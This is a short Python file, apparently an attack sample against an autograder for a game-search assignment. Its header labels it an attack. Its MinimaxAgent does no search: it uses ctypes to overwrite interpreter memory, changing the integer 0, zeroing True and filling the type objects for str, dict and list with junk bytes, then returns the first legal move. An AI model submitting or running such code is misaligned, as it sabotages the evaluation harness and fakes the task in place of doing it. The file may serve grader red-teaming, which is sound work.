# attack: writes over Python's own objects: the number 0, None, True and the type of texts.
# where: MinimaxAgent
import ctypes

from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        ctypes.c_ssize_t.from_address(id(0) + 24).value = 5
        ctypes.memset(id(True) + 16, 0, 8)
        for kind in (str, dict, list):
            ctypes.memset(id(kind) + 24, 0x41, 64)
        return gameState.getLegalActions()[0]
